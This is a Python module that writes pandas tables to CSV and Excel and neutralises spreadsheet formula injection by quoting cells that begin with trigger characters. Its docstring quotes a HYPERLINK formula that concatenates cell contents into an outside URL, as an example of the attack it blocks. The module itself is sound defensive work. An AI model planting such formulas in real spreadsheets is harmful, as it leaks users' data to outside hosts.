"""CSV for spreadsheets: every export path writes through :func:`csv_bytes`.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a
formula to Excel, LibreOffice Calc and Google Sheets (``=HYPERLINK("http://…?"&A1)``
sends the sheet's data anywhere; OWASP "CSV Injection", CWE-1236). Imported names, ids
and raw rows are user text, so every export neutralises them with OWASP's rule: such a
cell gets a leading single quote, which the spreadsheet shows and does not evaluate.
NUL is treated the same way (OWASP ASVS 1.2.10 lists it too).

Only text cells: numbers in numeric columns stay numbers (``-3.5`` is not a formula), and
a text cell that is nothing but a plain number (``-5``, ``+1.5e3``) is left as it is,
because a spreadsheet reads it as that number, not as a formula. Quoting follows
RFC 4180 (fields holding the separator, a quote or a line break are quoted), so no cell
can start a new cell in the middle of a value.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Sequence

import pandas as pd
from pandas.api.types import is_numeric_dtype

FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r", "\x00")
"""First characters that make a spreadsheet cell a formula (OWASP; NUL from ASVS 1.2.10)."""

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise_cell(value: object) -> object:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula.

    Examples
    --------
    >>> neutralise_cell('=1+1'), neutralise_cell('@SUM(A1)'), neutralise_cell('\\tx')
    ("'=1+1", "'@SUM(A1)", "'\\tx")
    >>> neutralise_cell('-5'), neutralise_cell(-5), neutralise_cell('a=b')
    ('-5', -5, 'a=b')
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names cannot run as formulas.

    Numeric, boolean and datetime columns are returned unchanged.
    """
    out = frame.copy()
    for col in out.columns:
        series = out[col]
        if (
            is_numeric_dtype(series.dtype)
            or isinstance(series.dtype, pd.DatetimeTZDtype)
            or pd.api.types.is_datetime64_any_dtype(series.dtype)
        ):
            continue
        out[col] = series.astype(object).map(neutralise_cell)
    out.columns = [neutralise_cell(str(c)) for c in out.columns]
    return out


def csv_bytes(frame: pd.DataFrame, notes: Sequence[tuple[str, str]] = ()) -> bytes:
    """``frame`` as CSV for spreadsheets: neutralised cells, RFC 4180 quoting, CRLF line
    ends, UTF-8 with a BOM (so Excel opens Chinese text intact), no index column.

    ``notes`` (label, value) pairs, e.g. the filters and method, come first as comment rows
    ``# label: value``, each one quoted field (a separator in a value cannot start a cell).
    """
    head = io.StringIO()
    writer = csv.writer(head, lineterminator="\r\n")
    for label, value in notes:
        writer.writerow([f"# {label}: {value}"])
    text = head.getvalue() + neutralise_frame(frame).to_csv(index=False, lineterminator="\r\n")
    return text.encode("utf-8-sig")


def read_notes(data: bytes) -> tuple[list[str], pd.DataFrame]:
    """The comment rows and the table of :func:`csv_bytes` output (for tests and round trips)."""
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    n = 0
    while n < len(rows) and rows[n] and rows[n][0].startswith("# "):
        n += 1
    notes = [r[0][2:] for r in rows[:n]]
    body = "\r\n".join(text.splitlines()[n:])
    return notes, pd.read_csv(io.StringIO(body), dtype=str, keep_default_na=False)


def xlsx_bytes(
    frame: pd.DataFrame,
    notes: Sequence[tuple[str, str]] = (),
    *,
    sheet: str = "data",
    notes_sheet: str = "about",
) -> bytes:
    """``frame`` as an Excel workbook: the table on ``sheet`` (text cells neutralised as in
    :func:`csv_bytes`, since openpyxl stores a text starting with ``=`` as a formula), and
    ``notes`` (label, value) on a second sheet ``notes_sheet``."""
    from openpyxl import Workbook  # imported here: only exports need it

    book = Workbook()
    table = book.active
    table.title = sheet[:31]
    out = neutralise_frame(frame)
    table.append([str(c) for c in out.columns])
    for row in out.itertuples(index=False):
        table.append([None if _blank(v) else _cell(v) for v in row])
    about = book.create_sheet(notes_sheet[:31])
    for label, value in notes:
        about.append([neutralise_cell(label), neutralise_cell(value)])
    for ws in (table, about):
        for column in ws.columns:
            width = max((len(str(c.value)) for c in column if c.value is not None), default=8)
            ws.column_dimensions[column[0].column_letter].width = min(60, max(8, width + 2))
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def _blank(value: object) -> bool:
    return value is None or (isinstance(value, float) and value != value) or value is pd.NaT


def _cell(value: object) -> object:
    """A value openpyxl can store: numpy scalars as Python numbers, timestamps naive."""
    if isinstance(value, pd.Timestamp):
        return value.tz_localize(None).to_pydatetime() if value.tzinfo else value.to_pydatetime()
    if hasattr(value, "item"):
        return value.item()  # type: ignore[union-attr]
    return value


__all__ = ["FORMULA_TRIGGERS", "csv_bytes", "neutralise_cell", "neutralise_frame", "read_notes", "xlsx_bytes"]
